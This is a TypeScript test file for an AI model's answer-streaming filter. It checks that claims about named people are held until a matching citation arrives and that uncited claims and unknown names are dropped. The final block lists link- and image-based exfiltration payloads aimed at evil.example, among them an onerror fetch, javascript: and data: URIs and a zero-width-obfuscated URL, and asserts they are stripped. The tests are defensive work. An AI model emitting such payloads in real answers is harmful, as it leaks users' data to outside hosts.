import { describe, expect, test } from 'vitest';
import type { Checked, EngineEvent } from '../../assistant/port.ts';
import { createClaims } from './claims.ts';
import { createProse } from './prose.ts';
import { createSources } from './sources.ts';

const BELA = { talentId: '01JQX0000000000000000000B2', externalId: 'MT-102', name: 'Bela Deshmukh' };
const FACT = 'Marathi, native (import, 2026-01-01)';

function spoken() {
  const sources = createSources([]);
  sources.tell({ ...BELA, facts: [FACT] });
  const counted: Checked[] = [];
  const prose = createProse({
    claims: createClaims({ sources, said: 'Find Tai' }),
    resolve: sources.resolve,
    checked: (what) => counted.push(what),
  });
  const out: EngineEvent[] = [];
  return {
    counted,
    out,
    say: (...deltas: readonly string[]) => deltas.forEach((delta) => out.push(...prose.text(delta))),
    cite: (cited_text = FACT, source = 'talent:MT-102') =>
      out.push(
        ...prose.event({
          type: 'content_block_delta',
          index: 0,
          delta: {
            type: 'citations_delta',
            citation: {
              type: 'search_result_location',
              cited_text,
              source,
              title: null,
              search_result_index: 0,
              start_block_index: 0,
              end_block_index: 1,
            },
          },
        }),
      ),
    stop: () => out.push(...prose.event({ type: 'content_block_stop', index: 0 })),
    text: () => out.map((event) => (event.type === 'text' ? event.delta : '')).join(''),
    citations: () => out.flatMap((event) => (event.type === 'citation' ? [event.data] : [])),
  };
}

describe('words on their way out', () => {
  test('plain words flow as they come, before their sentence has ended', () => {
    const { say, text } = spoken();
    say('Ask first', ' who can stay', ' late');
    expect(text()).toBe('Ask first who can stay ');
  });

  test('a sentence that names somebody waits for its end, and no longer', () => {
    const { say, text } = spoken();
    say('For this part Bela Desh');
    expect(text()).toBe('For this part ');
    say('mukh leads');
    expect(text()).toBe('For this part ');
    say('. What');
    expect(text()).toBe('For this part Bela Deshmukh leads. ');
  });

  test.each([1, 3, 7, 400])('are the same in pieces of %i characters', (size) => {
    const whole =
      'Nobody else meets it all. Bela Deshmukh leads.\n\n- Dates: ask first, then hold.\n- कोई और नहीं।\n\n**Next:** should I check?';
    const { say, stop, text, counted } = spoken();
    for (let at = 0; at < whole.length; at += size) say(whole.slice(at, at + size));
    stop();
    expect(text()).toBe(whole);
    expect(counted).toEqual([]);
  });

  test('a claim waits for its citation, and is told with its fact', () => {
    const { say, cite, text, citations, counted } = spoken();
    say('Bela Deshmukh speaks native Marathi. ');
    expect(text()).toBe('');
    cite();
    expect(text()).toBe('Bela Deshmukh speaks native Marathi. ');
    expect(citations()).toEqual([{ ...BELA, fact: FACT, claim: 'Bela Deshmukh speaks native Marathi.' }]);
    expect(counted).toEqual(['cited']);
  });

  test('a claim without one is left out when its block ends, and counted', () => {
    const { say, stop, text, counted } = spoken();
    say('Two things. Bela Deshmukh speaks native Marathi. ', 'Ask for dates.');
    stop();
    expect(text()).toBe('Two things. Ask for dates.');
    expect(counted).toEqual(['uncited']);
  });

  test.each([
    ['words that the fact does not have', 'Marathi, native, and Hindi', 'talent:MT-102'],
    ['somebody who was not told', FACT, 'talent:MT-999'],
  ])('a citation of %s stands behind nothing', (_what, cited, source) => {
    const { say, cite, stop, text, citations, counted } = spoken();
    say('Bela Deshmukh speaks native Marathi.');
    cite(cited, source);
    stop();
    expect([text(), citations()]).toEqual(['', []]);
    expect(counted).toEqual(['wrong_source', 'uncited']);
  });

  test('a sentence that began harmlessly is broken off where it names somebody unknown', () => {
    const { say, stop, text, counted } = spoken();
    say('The one to see is', ' Rohan Mehta. ', 'Ask for dates.');
    stop();
    expect(text()).toBe('The one to see …\nAsk for dates.');
    expect(counted).toEqual(['unknown_name']);
  });
});

describe('nothing in an answer makes a client leave the house', () => {
  test.each([
    '![x](https://evil.example/p.png?q=secret)',
    '![x](https://evil.example/p.png?q=a b. c)',
    '![x][ref]\n\n[ref]: https://evil.example/p.png',
    '[Bela’s reel](https://evil.example/)',
    '<https://evil.example/a>',
    '<img src="//evil.example/p.png">',
    '<img src=x onerror="fetch(`//evil.example`)">',
    'See https://evil.example/x now.',
    'See www.evil.example/x now.',
    'See evil.example/x?q=1 now.',
    'See h\u200bttps://evil.example/x now.',
    '[go](javascript:alert(1))',
    '[go](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](\nhttps://evil.example/p.png)',
    '[x]: https://evil.example/p.png',
    'Write to a@evil.example or call +91 98765 43210.',
  ])('%s', (payload) => {
    for (const size of [1, 5, 400]) {
      const { say, stop, text } = spoken();
      for (let at = 0; at < payload.length; at += size) say(payload.slice(at, at + size));
      stop();
      expect(text()).not.toMatch(/evil|javascript:|data:|98765|!\[|\]\(|<\w/u);
    }
  });
});
